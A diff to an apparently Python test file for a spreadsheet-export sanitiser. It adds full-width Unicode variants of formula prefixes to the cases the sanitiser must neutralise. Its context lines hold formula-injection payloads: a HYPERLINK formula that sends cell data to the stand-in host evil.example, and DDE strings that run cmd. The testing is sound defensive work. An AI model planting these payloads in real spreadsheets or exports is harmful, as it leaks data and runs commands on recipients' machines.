@@ -19,7 +19,8 @@ PAYLOADS = {"category": '=HYPERLINK("http://evil.example/?"&A1,"查看")', "majo
             "grid": "@SUM(1+9)*cmd|' /C calc'!A0", "community": "\t=1+1", "alert": "-2+3+cmd|' /C calc'!A0"}
 
 
-@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "=", "-"])
+@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "=", "-",
+                                   "\uff1d1+1", "\uff0bcmd", "\uff0d2+3", "\uff20SUM(A1)"])  # ＝＋－＠ (IME)
 def test_neutralise_cell_prefixes_a_quote(value):
     assert exports.neutralise_cell(value) == "'" + value
 
